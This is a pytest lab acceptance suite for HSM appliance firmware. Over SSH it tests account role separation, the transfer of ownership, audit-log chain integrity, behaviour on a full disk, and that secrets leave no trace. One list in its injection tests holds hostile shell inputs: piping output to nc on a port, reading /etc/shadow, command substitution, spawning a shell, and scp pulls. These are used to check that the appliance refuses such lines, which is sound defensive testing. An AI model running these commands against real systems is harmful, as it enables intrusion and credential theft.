"""Lab acceptance of the appliance firmware (issue 3), over real SSH with pinned host keys.

Every test starts from a factory reset over the out-of-band console (and a fresh device
daemon, so no back-off memory carries over) and works on hsm03 (tenant1) or hsm04
(tenant2) only. What the device did is read back from its activity log through the
console, and chains are verified offline with the device's own public audit key.
"""

from __future__ import annotations

import json
import subprocess
import threading
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import paramiko
import pytest
from paramiko.common import OPEN_FAILED_ADMINISTRATIVELY_PROHIBITED

from hsmctl import auditlog
from hsmctl.appliance.grammar import loggable
from tests.lab.firmware_helpers import (
    LAB_DIR,
    MONITOR_KEY,
    PROVIDER_KEY,
    SECRETS,
    Appliance,
    Conn,
    Device,
    Run,
    appliance,
    audit_records,
    console,
    data_conn,
    last_seq,
    load_key,
    mgmt_conn,
    new_secret,
    provision,
    take_over,
    wait_for_records,
)
from tests.lab.secret_scan import ProcSampler, files_under, grep_files

pytestmark = pytest.mark.lab

EXIT_USAGE, EXIT_DENIED = 64, 77
Record = dict[str, Any]


@pytest.fixture
def hsm03(lab: dict[str, Any]) -> Appliance:
    return appliance(lab, "hsm03", "tenant1", 203)


@pytest.fixture
def hsm04(lab: dict[str, Any]) -> Appliance:
    return appliance(lab, "hsm04", "tenant2", 204)


@pytest.fixture(scope="module")
def sampler(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ProcSampler]:
    """Samples every process's arguments and environment while this module's commands run;
    the grep test (last) stops it and looks for the secrets."""
    sampler = ProcSampler(tmp_path_factory.mktemp("procs") / "seen.json").start()
    yield sampler
    if sampler.proc is not None and sampler.proc.poll() is None:
        sampler.stop()


@pytest.fixture(autouse=True)
def _sampling(sampler: ProcSampler) -> None:
    """Every test of the module runs under the process sampler."""


# --- helpers ---------------------------------------------------------------------------


def device_keys(app: Appliance) -> dict[str, str]:
    """The device's audit public key as a verifier pins it (from ``device.json``)."""
    device = json.loads(console(app, "cat", "/etc/hsm/device.json").stdout)
    pem = str(device["audit_public_key"])
    return {auditlog.key_id_for_pem(pem): pem}


def verify_export(app: Appliance, export: bytes, *, final_checkpoint: bool = True) -> Any:
    """Verify an ``audit export`` offline; also check seq runs 1..N with no gap or repeat."""
    lines = export.splitlines()
    report = auditlog.verify_lines(
        lines, device_keys(app), device=app.id, require_final_checkpoint=final_checkpoint
    )
    assert report.ok, [str(v) for v in report.violations]
    seqs = [json.loads(line)["seq"] for line in lines]
    assert seqs == list(range(1, len(seqs) + 1))
    return report


def mgmt_login(app: Appliance, user: str, key_path: Path) -> Conn:
    conn = mgmt_conn(app)
    try:
        assert conn.auth_key(user, load_key(key_path)) == []
    except BaseException:
        conn.close()
        raise
    return conn


def denied_commands(records: list[Record], actor: str) -> set[str]:
    return {
        r["detail"]["command"]
        for r in records
        if r["event"] == "command" and r["outcome"] == "denied" and r["actor"] == actor
    }


def logins(app: Appliance, after: int, count: int, match: Callable[[Record], bool]) -> list[Record]:
    return wait_for_records(
        app, lambda r: r["event"] == "login" and match(r), after=after, count=count
    )


def read_until(chan: paramiko.Channel, marker: bytes, timeout: float = 15) -> bytes:
    chan.settimeout(timeout)
    buf = b""
    while marker not in buf:
        try:
            data = chan.recv(4096)
        except TimeoutError as exc:
            raise AssertionError(f"no {marker!r} in {buf[-400:]!r}") from exc
        if not data:
            raise AssertionError(f"channel closed before {marker!r}: {buf[-400:]!r}")
        buf += data
    return buf


def wait_closed(conn: Conn, chan: paramiko.Channel, timeout: float = 10) -> None:
    """The already-open session ends: EOF on its channel and the transport gone."""
    chan.settimeout(timeout)
    try:
        while chan.recv(4096):
            pass
    except (TimeoutError, OSError):
        pass
    deadline = time.monotonic() + timeout
    while conn.transport.is_active() and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not conn.transport.is_active(), "the open provider session survived the takeover"


def provider_shell(dev: Device) -> tuple[Conn, paramiko.Channel]:
    conn = dev.provider()
    chan = conn.transport.open_session()
    chan.get_pty()
    chan.invoke_shell()
    read_until(chan, b":provider> ")
    return conn, chan


def assert_provider_refused(app: Appliance) -> None:
    with mgmt_conn(app) as conn, pytest.raises(paramiko.AuthenticationException):
        conn.auth_key("provider", load_key(PROVIDER_KEY))


# --- 1. each account on its own interface, doing only what SPEC §3 allows ---------------

PROVIDER_ALLOWED = [
    "hsm show",
    "network show",
    "user list",
    "sysconf provider-access show",
    "sysconf hostkey show",
    "help",
]
PROVIDER_REFUSED = [
    "hsm init --label Prov",
    "hsm zeroize",
    "audit show",
    "audit export",
    "audit verify",
    "user password",
    "user credential set audit",
    "user enable audit",
    "sysconf provider-access revoke",
    "sysconf hostkey stage",
]
MONITOR_REFUSED = [
    "network show",
    "user list",
    "audit show",
    "sysconf provider-access show",
    "hsm zeroize",
    "user enable monitor",
    "network set --ip 198.19.8.20/24 --gateway 198.19.8.1",
]
ADMIN_ALLOWED = [
    "hsm show",
    "user list",
    "network show",
    "sysconf provider-access show",
    "sysconf hostkey show",
    "audit show --last 5",
    "audit verify",
]
ADMIN_REFUSED = [
    "network set --ip 198.19.8.20/24 --gateway 198.19.8.1",
    "user otp set",
    "sysconf factory-reset",
    "user enable provider",
    "user credential set admin",
]
AUDIT_ALLOWED = ["audit show --last 5", "audit export --after 1", "audit verify"]
AUDIT_REFUSED = [
    "hsm show",
    "user list",
    "network show",
    "user password",
    "hsm zeroize",
    "hsm init --label Aud",
    "user disable audit",
]


def test_provider_and_monitor_act_only_on_management(hsm04: Appliance) -> None:
    dev = provision(hsm04)
    start = last_seq(hsm04)
    with dev.provider() as p:
        for line in PROVIDER_ALLOWED:
            r = p.run(line)
            assert r.exit == 0, (line, r)
        for line in PROVIDER_REFUSED:
            r = p.run(line)
            assert r.exit == EXIT_DENIED, (line, r)
            assert b"not permitted for the provider" in r.err, (line, r)
        monitor_pub = Path(f"{MONITOR_KEY}.pub").read_text()
        assert p.run("user credential set monitor", stdin=[monitor_pub]).exit == 0
        assert p.run("user enable monitor").exit == 0
    # The provider's key is not the monitor's and the other way round.
    with mgmt_conn(hsm04) as c, pytest.raises(paramiko.AuthenticationException):
        c.auth_key("monitor", load_key(PROVIDER_KEY))
    with mgmt_login(hsm04, "monitor", MONITOR_KEY) as m:
        r = m.run("hsm show")
        assert r.exit == 0, r
        info = r.json()
        # Health only: no serial, label, object count or key ids.
        assert set(info) == {
            "id",
            "model",
            "firmware",
            "initialised",
            "owner_state",
            "provider_access",
            "monitor",
            "log_disk",  # the activity log's disk use (issue 15): health warns from it
        }
        assert info["monitor"] == "enabled" and info["owner_state"] == "provisioned"
        for line in MONITOR_REFUSED:
            r = m.run(line)
            assert r.exit == EXIT_DENIED, (line, r)
    # Neither logs in on the data interface (customer network), key or not.
    for user, key in (("provider", PROVIDER_KEY), ("monitor", MONITOR_KEY)):
        with data_conn(hsm04, dev.known) as c, pytest.raises(paramiko.AuthenticationException):
            c.auth_key(user, load_key(key))
    # A user name cannot pass for an account or forge the address in the log.
    forged = "admin from 6.6.6.6 port 1"
    with mgmt_conn(hsm04) as c, pytest.raises(paramiko.AuthenticationException):
        c.auth_key(forged, load_key(PROVIDER_KEY))
    for rec in logins(hsm04, start, 1, lambda r: r["actor"] == forged):
        assert (rec["role"], rec["source"], rec["outcome"]) == ("none", "198.18.0.1", "denied")
    assert not [rec for rec in audit_records(hsm04)[start:] if "6.6.6.6" in rec["source"]]
    refused = logins(
        hsm04, start, 2, lambda r: r["outcome"] == "denied" and r["detail"]["interface"] == "data"
    )
    assert {r["actor"] for r in refused} == {"provider", "monitor"}
    assert all("AllowUsers" in r["detail"]["reason"] for r in refused)
    records = audit_records(hsm04)[start:]
    assert denied_commands(records, "provider") == set(PROVIDER_REFUSED)
    assert denied_commands(records, "monitor") == set(MONITOR_REFUSED)


def test_admin_and_audit_act_only_on_data(hsm04: Appliance) -> None:
    dev = take_over(provision(hsm04))
    assert dev.audit_key is not None
    start = last_seq(hsm04)
    with dev.admin() as a:
        for line in ADMIN_ALLOWED:
            r = a.run(line)
            assert r.exit == 0, (line, r)
        for line in ADMIN_REFUSED:
            r = a.run(line)
            assert r.exit == EXIT_DENIED, (line, r)
    with dev.audit() as c:
        for line in AUDIT_ALLOWED:
            r = c.run(line)
            assert r.exit == 0, (line, r)
        for line in AUDIT_REFUSED:
            r = c.run(line)
            assert r.exit == EXIT_DENIED, (line, r)
    identity = load_key(hsm04.identity)
    # admin: the key alone is only a partial success ...
    with data_conn(hsm04, dev.known) as c:
        assert c.auth_key("admin", identity) == ["password"]
        assert not c.authenticated
    # ... the password alone is not even offered ...
    with data_conn(hsm04, dev.known) as c:
        with pytest.raises(paramiko.BadAuthenticationType) as exc:
            c.auth_password("admin", dev.password)
        assert exc.value.allowed_types == ["publickey"]
        assert not c.authenticated
    # ... and the key with a wrong password fails.
    with data_conn(hsm04, dev.known) as c:
        c.auth_key("admin", identity)
        with pytest.raises(paramiko.AuthenticationException):
            c.auth_password("admin", new_secret("wrong"))
        assert not c.authenticated
    # Customer accounts are refused on the management interface.
    for user, key in (("admin", identity), ("audit", dev.audit_key)):
        with mgmt_conn(hsm04) as c, pytest.raises(paramiko.AuthenticationException):
            c.auth_key(user, key)
    failed = logins(hsm04, start, 4, lambda r: r["actor"] == "admin" and r["outcome"] == "failed")
    assert {r["detail"]["reason"] for r in failed} >= {
        "authentication not completed",
        "wrong credential",
    }
    on_mgmt = logins(hsm04, start, 2, lambda r: r["detail"]["interface"] == "mgmt")
    assert {(r["actor"], r["outcome"]) for r in on_mgmt} == {
        ("admin", "denied"),
        ("audit", "denied"),
    }
    records = audit_records(hsm04)[start:]
    # The log holds the canonical form: the default expiry is spelled out.
    assert denied_commands(records, "admin") == (set(ADMIN_REFUSED) - {"user otp set"}) | {
        "user otp set --expires-hours 72"
    }
    assert denied_commands(records, "audit") == set(AUDIT_REFUSED)


# --- 2. injection attempts are refused and logged as denied -----------------------------

INJECTIONS = [
    "hsm show; cat /etc/shadow",
    "hsm show && id",
    "hsm show | nc 198.19.1.4 4444",
    "hsm show $(id)",
    "hsm show `id`",
    "audit export > /tmp/log",
    "audit export < /etc/shadow",
    "hsm show\nid",
    "audit show ../../etc/shadow",
    "/bin/sh",
    "sh -i",
    "bash -c id",
    "exec /bin/sh",
    "python3 -c 1",
    "scp -f /etc/shadow",  # what `scp -O` asks for a download ...
    "scp -t /tmp",  # ... and for an upload
    "/usr/lib/openssh/sftp-server",
]


def ssh_client_files(dev: Device, tmp_path: Path) -> list[str]:
    """OpenSSH client options for the audit account: its key, the pinned data host keys."""
    assert dev.audit_key is not None
    key = tmp_path / "audit_key"
    dev.audit_key.write_private_key_file(str(key))
    key.chmod(0o600)
    known = tmp_path / "known_hosts"
    known.write_text(
        "".join(
            f"{host} {k.get_name()} {k.get_base64()}\n"
            for host, keys in dev.known.items()
            for k in keys.values()
        )
    )
    return [
        "-F",
        "/dev/null",
        "-i",
        str(key),
        "-o",
        "IdentitiesOnly=yes",
        "-o",
        "BatchMode=yes",
        "-o",
        "StrictHostKeyChecking=yes",
        "-o",
        f"UserKnownHostsFile={known}",
        "-o",
        "GlobalKnownHostsFile=/dev/null",
        "-o",
        "ConnectTimeout=10",
    ]


def client(netns: str, *argv: str) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        ["ip", "netns", "exec", netns, *argv],
        capture_output=True,
        timeout=60,
        stdin=subprocess.DEVNULL,
        check=False,
    )


def test_injection_attempts_are_refused_and_logged(hsm03: Appliance, tmp_path: Path) -> None:
    app = hsm03
    dev = take_over(provision(app))
    start = last_seq(app)
    with dev.admin() as a:
        for line in INJECTIONS:
            r = a.run(line)
            assert r.exit == EXIT_USAGE, (line, r)
            assert r.out == b"" and r.err.startswith(b"error: "), (line, r)
        # The same at an interactive prompt.
        chan = a.transport.open_session()
        chan.get_pty()
        chan.invoke_shell()
        read_until(chan, b":admin> ")
        chan.sendall(b"hsm show; id\n")
        assert b"not allowed" in read_until(chan, b":admin> ")
        chan.close()
    # sftp (the subsystem scp and sftp use) and port forwarding, for admin ...
    with dev.admin() as a, pytest.raises(paramiko.SSHException):
        paramiko.SFTPClient.from_transport(a.transport)
    for dest in (("127.0.0.1", 22), ("198.18.0.1", 22)):  # -L, and what -D asks for
        with dev.admin() as a, pytest.raises(paramiko.ChannelException) as exc:
            a.transport.open_channel("direct-tcpip", dest, ("127.0.0.1", 40000))
        assert exc.value.code == OPEN_FAILED_ADMINISTRATIVELY_PROHIBITED
    with dev.admin() as a, pytest.raises(paramiko.SSHException):
        a.transport.request_port_forward("127.0.0.1", 0)  # -R
    # ... and for audit, with the real OpenSSH clients from the tenant's network.
    opts = ssh_client_files(dev, tmp_path)
    target = f"audit@{app.data_ip}"
    legacy = client(
        app.client_netns, "scp", "-O", *opts, f"{target}:/etc/shadow", str(tmp_path / "x")
    )
    assert legacy.returncode != 0 and b"programs cannot be started" in legacy.stderr
    default = client(app.client_netns, "scp", *opts, f"{target}:/etc/shadow", str(tmp_path / "y"))
    assert default.returncode != 0
    sftp = client(app.client_netns, "sftp", "-b", "/dev/null", *opts, target)
    assert sftp.returncode != 0
    with dev.audit() as c, pytest.raises(paramiko.ChannelException):
        c.transport.open_channel("direct-tcpip", ("127.0.0.1", 22), ("127.0.0.1", 40000))
    assert not (tmp_path / "x").exists() and not (tmp_path / "y").exists()

    client_ip = next(r for r in audit_records(app)[start:] if r["event"] == "session-start")[
        "source"
    ]
    refusals = wait_for_records(
        app,
        lambda r: r["event"] in ("subsystem", "port-forward"),
        after=start,
        count=6,
    )
    records = audit_records(app)[start:]
    # Each refusal is logged with the command words the grammar knows and only a count
    # of the rest: a refused line may hold a secret typed as an argument (SPEC §3).
    shell_refusals = [
        (r["actor"], r["detail"]["line"], r["event"])
        for r in records
        if r["event"] in ("escape-attempt", "command") and r["outcome"] == "denied"
    ]
    for line in [*INJECTIONS, "hsm show; id"]:
        entry = ("admin", loggable(line), "escape-attempt")
        assert entry in shell_refusals, f"{line!r} is not in the activity log"
        shell_refusals.remove(entry)
    # sent by the real `scp -O`
    assert ("audit", loggable("scp -f /etc/shadow"), "escape-attempt") in shell_refusals
    assert not [r for r in records if "/etc/shadow" in json.dumps(r)], "argument logged"
    seen = sorted((r["event"], r["actor"], r["source"], r["outcome"]) for r in refusals)
    assert seen == sorted(
        [
            ("subsystem", "admin", client_ip, "denied"),
            ("port-forward", "admin", client_ip, "denied"),
            ("port-forward", "admin", client_ip, "denied"),
            ("subsystem", "audit", client_ip, "denied"),
            ("subsystem", "audit", client_ip, "denied"),
            ("port-forward", "audit", client_ip, "denied"),
        ]
    ), refusals


@pytest.mark.xfail(
    strict=True,
    reason="sshd logs a refused tcpip-forward (-R) only at LogLevel DEBUG1; the image runs "
    "VERBOSE, so the daemon never learns of it (the refusal itself is enforced)",
)
def test_remote_forward_refusal_is_logged(hsm04: Appliance) -> None:
    dev = provision(hsm04)  # any authenticated session may ask
    start = last_seq(hsm04)
    with dev.admin(dev.otp) as a, pytest.raises(paramiko.SSHException):
        a.transport.request_port_forward("127.0.0.1", 0)
    assert wait_for_records(hsm04, lambda r: r["event"] == "port-forward", after=start, timeout=3)


# --- 3. the forced first change, and the provider's access ending with it ---------------


def test_first_change_over_exec_locks_the_provider_at_once(hsm04: Appliance) -> None:
    dev = provision(hsm04)
    prov, prov_chan = provider_shell(dev)  # an open provider session
    start = last_seq(hsm04)
    new_password = new_secret("admin")
    with dev.admin(dev.otp) as a:
        for line in ("hsm show", "audit show", "user list"):
            r = a.run(line)
            assert r.exit == EXIT_DENIED and b"change the one-time password" in r.err, r
        r = a.run("user password", stdin=["Short1!"])  # policy still applies
        assert r.exit == EXIT_USAGE, r
        r = a.run("user password", stdin=[new_password])
        assert r.exit == 0 and b"customer-owned" in r.out, r
    wait_closed(prov, prov_chan)
    prov.close()
    assert_provider_refused(hsm04)
    # The one-time password is dead, the new one works.
    with pytest.raises(paramiko.AuthenticationException):
        dev.admin(dev.otp).close()
    with dev.admin(new_password) as a:
        info = a.run("hsm show").json()
    assert info["owner_state"] == "customer-owned" and info["provider_access"] is False
    records = audit_records(hsm04)[start:]
    transfer = [r for r in records if r["event"] == "ownership-transfer"]
    assert len(transfer) == 1 and transfer[0]["detail"]["provider_access"] == "revoked"
    refused = logins(
        hsm04, transfer[0]["seq"], 1, lambda r: r["actor"] == "provider" and r["outcome"] != "ok"
    )
    assert refused and refused[0]["detail"]["interface"] == "mgmt"


def test_first_change_over_interactive_session(hsm03: Appliance) -> None:
    dev = provision(hsm03)
    prov, prov_chan = provider_shell(dev)
    new_password = new_secret("admin")
    with dev.admin(dev.otp) as a:
        chan = a.transport.open_session()
        chan.get_pty(term="vt100", width=120, height=40)
        chan.invoke_shell()
        # The shell asks for the new password before anything else; nothing is echoed.
        before = read_until(chan, b"new password: ")
        assert b"must be changed" in before and b":admin> " not in before
        chan.sendall(f"{new_password}\n".encode())
        read_until(chan, b"repeat new password: ")
        chan.sendall(f"{new_password}\n".encode())
        after = read_until(chan, b":admin> ")
        assert b"customer-owned" in after and new_password.encode() not in after
        chan.sendall(b"hsm show\n")
        shown = read_until(chan, b":admin> ")
        assert b'"owner_state": "customer-owned"' in shown
        chan.sendall(b"exit\n")
        chan.close()
    wait_closed(prov, prov_chan)
    prov.close()
    assert_provider_refused(hsm03)
    with dev.admin(new_password) as a:
        assert a.run("sysconf provider-access show").json()["provider_access"] is False


# --- 4. concurrent sessions leave one valid chain ---------------------------------------

SESSIONS = 20


def test_concurrent_sessions_leave_a_valid_chain(hsm03: Appliance) -> None:
    app = hsm03
    dev = take_over(provision(app))
    start = last_seq(app)
    handshakes = threading.Semaphore(6)  # under sshd's MaxStartups, which drops the rest
    barrier = threading.Barrier(SESSIONS, timeout=120)
    admin_lines = ["hsm show", "user list", "audit show --last 3", "sysconf provider-access show"]
    audit_lines = ["audit show --last 3", "audit verify", f"audit export --after {start + 500}"]

    def session(i: int) -> list[tuple[str, Run]]:
        with handshakes:
            conn = dev.admin() if i % 2 == 0 else dev.audit()
        try:
            barrier.wait()
            return [(line, conn.run(line)) for line in (admin_lines if i % 2 == 0 else audit_lines)]
        finally:
            conn.close()

    with ThreadPoolExecutor(SESSIONS) as pool:
        results = list(pool.map(session, range(SESSIONS)))
    for runs in results:
        for line, r in runs:
            assert r.exit == 0, (line, r)

    with dev.audit() as c:
        verified = c.run("audit verify")
        export = c.run("audit export")
    assert verified.exit == 0 and verified.json()["verified"] is True, verified
    assert export.exit == 0
    verify_export(app, export.out)
    records = [json.loads(line) for line in export.out.splitlines()]
    assert len({r["hash"] for r in records}) == len(records)
    mine = records[start:]
    for event in ("session-start", "session-end"):
        assert sum(r["event"] == event and r["actor"] in ("admin", "audit") for r in mine) >= (
            SESSIONS
        )
    ok = [r for r in mine if r["event"] == "result" and r["outcome"] == "ok"]
    assert len(ok) >= SESSIONS // 2 * (len(admin_lines) + len(audit_lines))


# --- 5. hsm init, a second init, zeroize -----------------------------------------------

CREATE_OBJECT = """
import sys, PyKCS11
pin = sys.stdin.readline().rstrip("\\n")
lib = PyKCS11.PyKCS11Lib()
lib.load("/usr/lib/softhsm/libsofthsm2.so")
slot = next(s for s in lib.getSlotList(tokenPresent=True)
            if lib.getTokenInfo(s).label.strip() == sys.argv[1])
session = lib.openSession(slot, PyKCS11.CKF_SERIAL_SESSION | PyKCS11.CKF_RW_SESSION)
session.login(pin)
session.createObject([
    (PyKCS11.CKA_CLASS, PyKCS11.CKO_DATA), (PyKCS11.CKA_TOKEN, True),
    (PyKCS11.CKA_PRIVATE, False), (PyKCS11.CKA_LABEL, "customer-data"),
    (PyKCS11.CKA_VALUE, list(b"not a secret")),
])
session.logout()
"""


def put_object(app: Appliance, label: str, co_pin: str) -> None:
    """What the customer's application does with its token: store an object (CO login)."""
    console(app, "python3", "-c", CREATE_OBJECT, label, input=f"{co_pin}\n".encode())


def test_hsm_init_needs_the_current_so_pin_and_zeroize_empties_the_token(
    hsm04: Appliance,
) -> None:
    app = hsm04
    dev = take_over(provision(app))
    start = last_seq(app)
    so_pin, other_so_pin = new_secret("so"), new_secret("so")
    co_pin, co_pin2 = new_secret("co"), new_secret("co")
    with dev.admin() as a:
        assert a.run("hsm init --label First", stdin=[so_pin]).exit == 0
        assert a.run("hsm co-pin set", stdin=[so_pin, co_pin]).exit == 0
        put_object(app, "First", co_pin)
        before = a.run("hsm show").json()
        assert (before["label"], before["initialised"], before["objects"]) == ("First", True, 1)

        wrong = a.run("hsm init --label Second", stdin=[other_so_pin])
        assert wrong.exit == 1 and b"wrong PIN" in wrong.err, wrong
        unchanged = a.run("hsm show").json()
        # label, serial, objects, CO PIN: nothing changed (the log grew, of course)
        assert unchanged.pop("log_disk") != before.pop("log_disk")
        assert unchanged == before

        right = a.run("hsm init --label Second", stdin=[so_pin])
        assert right.exit == 0, right
        after = a.run("hsm show").json()
        assert (after["label"], after["objects"], after["co_pin_set"]) == ("Second", 0, False)

        assert a.run("hsm co-pin set", stdin=[so_pin, co_pin2]).exit == 0
        put_object(app, "Second", co_pin2)
        assert a.run("hsm show").json()["objects"] == 1
        zeroize_at = last_seq(app)
        assert a.run("hsm zeroize").exit == 0
        gone = a.run("hsm show").json()
        assert (gone["initialised"], gone["objects"], gone["label"]) == (False, 0, "")
    slots = console(app, "softhsm2-util", "--show-slots").stdout.decode()
    assert "Second" not in slots and "hsm-audit" in slots
    # The audit token is untouched: a fresh checkpoint signs and verifies.
    with dev.audit() as c:
        export = c.run("audit export")
    assert export.exit == 0
    verify_export(app, export.out)
    last = json.loads(export.out.splitlines()[-1])
    assert last["event"] == "checkpoint" and last["seq"] > zeroize_at
    records = audit_records(app)[start:]
    failed = [
        r
        for r in records
        if r["event"] == "result"
        and r["outcome"] == "failed"
        and r["detail"]["command"] == "hsm init --label Second"
    ]
    assert len(failed) == 1 and failed[0]["detail"]["token_error"] == "TokenAuthError"


# --- 6. a full disk: fail closed, export still works ------------------------------------


def fill_log_disk(app: Appliance) -> None:
    """Put the log directory on a full tmpfs: a copy of the log, a filler for the rest.
    The original directory stays reachable at /mnt/orig for the way back."""
    size = int(console(app, "stat", "-c", "%s", "/var/log/hsm/audit.jsonl").stdout)
    tmpfs = (size // 4096 + 16) * 4096
    console(
        app,
        "sh",
        "-c",
        f"""set -e
        mkdir -p /mnt/full /mnt/orig
        mount -t tmpfs -o size={tmpfs},mode=0750 hsm-full /mnt/full
        cp -p /var/log/hsm/audit.jsonl /mnt/full/audit.jsonl
        dd if=/dev/zero of=/mnt/full/filler bs=4096 2>/dev/null || true
        mount --bind /var/log/hsm /mnt/orig
        mount --bind /mnt/full /var/log/hsm
        [ "$(df --output=avail /var/log/hsm | tail -n 1 | tr -d ' ')" = 0 ]""",
    )


def restore_log_disk(app: Appliance) -> None:
    """Copy the log back in place (the daemon follows a file that ends where it left off)
    and unmount; lazily, because the daemon still holds the tmpfs copy open."""
    console(
        app,
        "sh",
        "-c",
        """
        if mountpoint -q /var/log/hsm && mountpoint -q /mnt/orig; then
            cat /var/log/hsm/audit.jsonl > /mnt/orig/audit.jsonl && umount -l /var/log/hsm
        fi
        mountpoint -q /mnt/orig && umount -l /mnt/orig
        mountpoint -q /mnt/full && umount -l /mnt/full
        rmdir /mnt/full /mnt/orig 2>/dev/null
        ! mountpoint -q /var/log/hsm""",
    )


def test_full_disk_fails_closed_but_export_works(hsm03: Appliance) -> None:
    app = hsm03
    dev = take_over(provision(app))
    so_pin, new_password = new_secret("so"), new_secret("admin")
    fill_log_disk(app)
    try:
        # The copy's last page has room for a few records: let the device use it up.
        for _ in range(40):
            if console(app, "hsmsh", "-c", "hsm show", check=False).returncode != 0:
                break
        else:
            pytest.fail("the log never filled up")
        with dev.admin() as a:
            init = a.run("hsm init --label Full", stdin=[so_pin])
            password = a.run("user password", stdin=[new_password])
            show = a.run("hsm show")
        for r in (init, password, show):
            assert r.exit != 0 and b"activity log" in r.err, r
        with dev.audit() as c:
            export = c.run("audit export")
            verify = c.run("audit verify")
        assert export.exit == 0, export
        verify_export(app, export.out, final_checkpoint=False)
        assert verify.exit != 0  # only export is exempt
        assert "Full" not in console(app, "softhsm2-util", "--show-slots").stdout.decode()
    finally:
        restore_log_disk(app)
    # Nothing took effect: token not initialised, the old password still the password.
    with dev.admin() as a:
        info = a.run("hsm show").json()
        assert info["initialised"] is False and info["label"] == ""
    with pytest.raises(paramiko.AuthenticationException):
        dev.admin(new_password).close()
    with dev.audit() as c:
        verified = c.run("audit verify")
        export = c.run("audit export")
    assert verified.exit == 0 and verified.json()["verified"] is True, verified
    verify_export(app, export.out)


# --- 7. secrets appear nowhere but in the token store and the password hashes -----------

SKIP = ["var/lib/softhsm/tokens", "etc/shadow"]  # also etc/shadow- and etc/shadow.lock


def test_secrets_appear_nowhere_on_the_device(
    hsm03: Appliance, hsm04: Appliance, sampler: ProcSampler
) -> None:
    app = hsm03
    dev = take_over(provision(app))
    so_pin, co_pin, co_pin2 = new_secret("so"), new_secret("co"), new_secret("co")
    second_password = new_secret("admin")
    with dev.admin() as a:
        assert a.run("hsm init --label Grep", stdin=[so_pin]).exit == 0
        assert a.run("hsm co-pin set", stdin=[so_pin, co_pin]).exit == 0
        assert a.run("hsm co-pin change", stdin=[co_pin, co_pin2]).exit == 0
        assert a.run("user password", stdin=[second_password]).exit == 0
    with dev.admin(second_password) as a:
        assert a.run("hsm show").json()["co_pin_set"] is True
    sampler.stop()
    needles = sorted(SECRETS)
    assert len(needles) >= 8
    # The sampler really watched: it saw the token helper's short-lived children that got
    # PINs (forked by its fork server, ``tokencli --fork-server``).
    assert sampler.samples > 100 and sampler.saw("hsmctl.appliance.tokencli")
    assert sampler.hits(needles) == []
    files: list[Path] = []
    for each in (hsm03, hsm04):
        files += files_under(each.upper, SKIP)
        files.append(each.console_log)
    assert any(p.name == "audit.jsonl" for p in files)
    assert grep_files(files, needles) == []
    # tmpfs inside the appliances (not in the overlay): /run, /tmp, /dev/shm.
    for each in (hsm03, hsm04):
        found = console(
            each,
            "grep",
            "-rlF",
            "--devices=skip",
            "-f",
            "/proc/self/fd/0",
            "/run",
            "/tmp",
            "/dev/shm",
            input="\n".join(needles).encode() + b"\n",
            check=False,
        )
        assert found.returncode == 1 and found.stdout == b"", found
    # The lab's own state (bundles, inventories) stays clean too.
    assert grep_files(files_under(LAB_DIR / "provider", []), needles) == []
